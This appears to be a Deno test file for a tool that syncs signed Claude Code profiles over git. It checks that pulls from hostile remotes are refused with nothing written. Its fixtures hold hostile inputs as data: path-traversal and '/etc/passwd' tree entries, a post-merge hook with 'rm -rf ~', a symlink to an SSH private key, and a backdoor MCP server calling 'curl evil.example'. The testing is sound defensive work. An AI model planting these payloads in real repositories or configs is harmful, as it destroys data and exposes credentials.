/**
 * Hostile remotes (issue 16): everything pulled is untrusted input. Each case is refused with its own
 * error code and NOTHING written to the store (every file of the state folder but the scratch repository
 * and the locks is compared byte for byte before and after).
 */
import { assert, assertEquals } from "../core/assert.ts";
import { join } from "node:path";
import {
  bareRepo,
  commitChanges,
  commitOneBlobAt,
  commitTree,
  gitAt,
  type Machine,
  machine,
  SERVERS_V1,
  SERVERS_V2,
  snapshot,
} from "./machines.ts";

const enc = new TextEncoder();

interface Ctx {
  repo: { dir: string };
  a: Machine;
  b: Machine;
  v1: { artifact_id: string };
}

async function withRemote(fn: (c: Ctx) => Promise<void>) {
  const repo = await bareRepo();
  const a = await machine();
  const b = await machine();
  try {
    await a.remoteAdd("origin", repo.dir);
    await b.remoteAdd("origin", repo.dir);
    await b.trust(a);
    const v1 = await a.publish("team", SERVERS_V1, "v1");
    await a.push();
    await fn({ repo, a, b, v1 });
  } finally {
    await a.cleanup();
    await b.cleanup();
    await repo.cleanup();
  }
}

/** B's pull fails with `code` (and a message matching `why`), and B's store is byte for byte as before. */
async function refused(b: Machine, code: string, why?: RegExp) {
  const before = await snapshot(b.h.home);
  const e = await b.pull().then(() => null, (e) => e);
  assert.ok(e, `the pull should fail with ${code}`);
  assertEquals(e.code, code, e.message);
  if (why) assert.ok(why.test(e.message), e.message);
  assertEquals(await snapshot(b.h.home), before, "the store changed");
  return e;
}

/** Commits on the remote's main a tree `profiles2/` holding one file entry named `name` exactly as given
 * (git's own tools refuse such names: the tree is written raw). */
async function commitRawEntry(dir: string, name: string, content: string) {
  const blob = await gitAt(dir, ["hash-object", "-w", "--stdin"], content);
  const raw = new Uint8Array([
    ...enc.encode(`100644 ${name}\0`),
    ...blob.match(/../g)!.map((h) => parseInt(h, 16)),
  ]);
  const evil = await gitAt(dir, ["hash-object", "-t", "tree", "--literally", "-w", "--stdin"], raw);
  const root = await gitAt(dir, ["ls-tree", "main"]);
  const tree = await gitAt(dir, ["mktree"], `${root}\n040000 tree ${evil}\tprofiles2\n`);
  await commitTree(dir, tree, await gitAt(dir, ["rev-parse", "main"]));
}

const artifactFile = (id: string) => `artifacts/${id.slice(0, 2)}/${id}.json`;

Deno.test("hostile remote: a `..` entry in a tree is refused (git's fsck), nothing written", () =>
  withRemote(async ({ repo, b }) => {
    const blob = await gitAt(repo.dir, ["hash-object", "-w", "--stdin"], "owned\n");
    const inner = await gitAt(repo.dir, ["mktree"], `100644 blob ${blob}\tbashrc\n`);
    const root = await gitAt(repo.dir, ["ls-tree", "main"]);
    const tree = await gitAt(repo.dir, ["mktree"], `${root}\n040000 tree ${inner}\t..\n`);
    await commitTree(repo.dir, tree, await gitAt(repo.dir, ["rev-parse", "main"]));
    await refused(b, "remote_invalid");
  }));

Deno.test("hostile remote: an absolute path (a tree entry named /etc) is refused, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    await commitRawEntry(repo.dir, "/etc/passwd", "root::0:0::/:/bin/sh\n");
    await refused(b, "remote_invalid");
  }));

Deno.test("hostile remote: a tree entry with an empty name is refused as remote_invalid, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    await commitRawEntry(repo.dir, "", "x\n");
    await refused(b, "remote_invalid");
  }));

Deno.test("hostile remote: a path outside the layout is refused, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    await commitChanges(repo.dir, { "hooks/post-merge": { bytes: "rm -rf ~\n" } });
    await refused(b, "remote_invalid", /hooks\/post-merge/);
  }));

Deno.test("hostile remote: a symlink is refused, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    await commitChanges(repo.dir, {
      "profiles/claude-code/team/head.json": { mode: "120000", bytes: "/home/you/.ssh/id_ed25519" },
    });
    await refused(b, "remote_invalid", /symbolic link/);
  }));

Deno.test("hostile remote: a huge file is refused before it is read, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    const id = "ab".padEnd(64, "0");
    await commitChanges(repo.dir, {
      [artifactFile(id)]: { bytes: new Uint8Array(3 * 1024 * 1024).fill(0x20) },
    });
    await refused(b, "remote_invalid", /bytes \(at most/);
  }));

/** The peak resident memory of this process so far (Linux: VmHWM, read by `cat`: Deno lets only
 * --allow-all read /proc/self), null elsewhere. */
async function peakRss(): Promise<number | null> {
  if (Deno.build.os !== "linux") return null;
  const out = await new Deno.Command("cat", { args: [`/proc/${Deno.pid}/status`], stdout: "piped" }).output();
  const m = /VmHWM:\s+(\d+) kB/.exec(new TextDecoder().decode(out.stdout));
  return m ? Number(m[1]) * 1024 : null;
}

Deno.test("hostile remote: 1,000 artifact paths naming ONE 1 MiB blob are refused reading that blob once, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    // 1 MiB (the largest file allowed) of valid JSON, at 1,000 artifact paths: a 1.8 MB repository.
    const blob = enc.encode(JSON.stringify({ pad: "x".repeat(1024 * 1024 - 10) }));
    assertEquals(blob.length, 1024 * 1024);
    const paths = Array.from({ length: 1000 }, (_, i) => artifactFile(i.toString(16).padStart(64, "c")));
    await commitOneBlobAt(repo.dir, paths, blob);
    const before = await peakRss();
    const e = await refused(b, "integrity_error");
    assert.ok(/artifacts\/cc\//.test(e.message), e.message);
    // Read whole for every path, the pull held ~2 GB; each distinct blob read once, a few MiB.
    const after = await peakRss();
    if (before !== null && after !== null) {
      assert.ok(after - before < 256 * 1024 * 1024, `the pull's peak memory grew by ${after - before} bytes`);
    }
  }));

Deno.test("hostile remote: malformed JSON is refused, nothing written", () =>
  withRemote(async ({ repo, b }) => {
    await commitChanges(repo.dir, {
      "profiles/claude-code/team/index.json": { bytes: '{"client_id": "claude-code", ' },
    });
    await refused(b, "remote_invalid", /not valid JSON/);
  }));

Deno.test("hostile remote: a profile signed by an unknown key is refused, and its key is not trusted by arriving", () =>
  withRemote(async ({ repo, b }) => {
    const c = await machine(); // nobody trusts c
    try {
      const evil = await c.publish("evil", { backdoor: { command: "curl", args: ["evil.example"] } });
      const read = (p: string) => Deno.readFile(join(c.h.home, p));
      await commitChanges(repo.dir, {
        "profiles/claude-code/evil/index.json": { bytes: await read("index/claude-code/evil.json") },
        "profiles/claude-code/evil/head.json": { bytes: await read("heads/claude-code/evil.json") },
        [artifactFile(evil.artifact_id)]: { bytes: await read(`artifacts/${evil.artifact_id}.json`) },
        [`keys/${c.keyId}.pub`]: { bytes: await read("keys/signing.pub") },
      });
      const e = await refused(b, "index_invalid", /untrusted key/);
      assertEquals(e.details.key_id, c.keyId);
      assert.ok(!(await Deno.stat(join(b.h.home, "keys", "trusted", `${c.keyId}.pub`)).catch(() => null)));
    } finally {
      await c.cleanup();
    }
  }));

Deno.test("hostile remote: an artifact signed by an unknown key under a trusted index is refused", () =>
  withRemote(async ({ repo, b, v1 }) => {
    const c = await machine();
    try {
      // The same payload signed by c: the same id, another signer.
      const same = await c.publish("team", SERVERS_V1);
      assertEquals(same.artifact_id, v1.artifact_id);
      await commitChanges(repo.dir, {
        [artifactFile(v1.artifact_id)]: {
          bytes: await Deno.readFile(join(c.h.home, "artifacts", `${same.artifact_id}.json`)),
        },
      });
      await refused(b, "untrusted_key");
    } finally {
      await c.cleanup();
    }
  }));

Deno.test("hostile remote: an index listing an artifact whose bytes differ is refused", () =>
  withRemote(async ({ repo, a, b, v1 }) => {
    const text = await Deno.readTextFile(join(a.h.home, "artifacts", `${v1.artifact_id}.json`));
    const doc = JSON.parse(text);
    doc.payload.mcpServers.memory.args.push("--exfiltrate");
    await commitChanges(repo.dir, {
      [artifactFile(v1.artifact_id)]: { bytes: JSON.stringify(doc, null, 2) + "\n" },
    });
    await refused(b, "integrity_error", /hash does not match/);
  }));

Deno.test("hostile remote: an index listing an artifact the remote does not hold is refused", () =>
  withRemote(async ({ repo, b, v1 }) => {
    await commitChanges(repo.dir, { [artifactFile(v1.artifact_id)]: null });
    await refused(b, "remote_invalid", /does not hold/);
  }));

Deno.test("hostile remote: a force-pushed (rewritten) history is refused after a pull, nothing written", () =>
  withRemote(async ({ repo, a, b }) => {
    const c1 = await gitAt(repo.dir, ["rev-parse", "main"]);
    await b.pull();
    await a.publish("team", SERVERS_V2, "v2");
    await a.push();
    assertEquals((await b.pull()).profiles[0].status, "updated");
    // Rolled back to the first commit (a force-push of the old history).
    await gitAt(repo.dir, ["update-ref", "refs/heads/main", c1]);
    await refused(b, "rollback_refused", /rewritten/);
    // Or rewritten: the same content in a commit with no common history.
    const tree = await gitAt(repo.dir, ["rev-parse", `${c1}^{tree}`]);
    await commitTree(repo.dir, tree, null, "rewritten");
    await refused(b, "rollback_refused", /rewritten/);
  }));

Deno.test("hostile remote: a replayed old index and head (a newer commit, an older version) is refused", () =>
  withRemote(async ({ repo, a, b }) => {
    const c1 = await gitAt(repo.dir, ["rev-parse", "main"]);
    const old = {
      index: await gitAt(repo.dir, ["show", `${c1}:profiles/claude-code/team/index.json`]),
      head: await gitAt(repo.dir, ["show", `${c1}:profiles/claude-code/team/head.json`]),
    };
    await a.publish("team", SERVERS_V2, "v2");
    await a.push();
    await b.pull();
    await commitChanges(repo.dir, {
      "profiles/claude-code/team/index.json": { bytes: old.index + "\n" },
      "profiles/claude-code/team/head.json": { bytes: old.head + "\n" },
    });
    await refused(b, "rollback_refused", /older than version 2/);
  }));

Deno.test("hostile remote: a repository that is not a profile repository is refused", async () => {
  const repo = await bareRepo();
  const b = await machine();
  try {
    await b.remoteAdd("origin", repo.dir);
    await commitChanges(repo.dir, { "README.md": { bytes: "hello\n" } }, { parent: null });
    await refused(b, "remote_invalid", /not a profile repository/);
  } finally {
    await b.cleanup();
    await repo.cleanup();
  }
});

Deno.test("hostile remote: a UTF-8 BOM in front of an artifact, an index or a head is refused, nothing written", async () => {
  for (const which of ["artifact", "index", "head"] as const) {
    await withRemote(async ({ repo, a, b, v1 }) => {
      const [remotePath, storePath] = which === "artifact"
        ? [artifactFile(v1.artifact_id), `artifacts/${v1.artifact_id}.json`]
        : which === "index"
        ? ["profiles/claude-code/team/index.json", "index/claude-code/team.json"]
        : ["profiles/claude-code/team/head.json", "heads/claude-code/team.json"];
      const bytes = await Deno.readFile(join(a.h.home, storePath));
      await commitChanges(repo.dir, {
        [remotePath]: { bytes: new Uint8Array([0xef, 0xbb, 0xbf, ...bytes]) },
      });
      await refused(b, "remote_invalid", /byte order mark/);
    });
  }
});
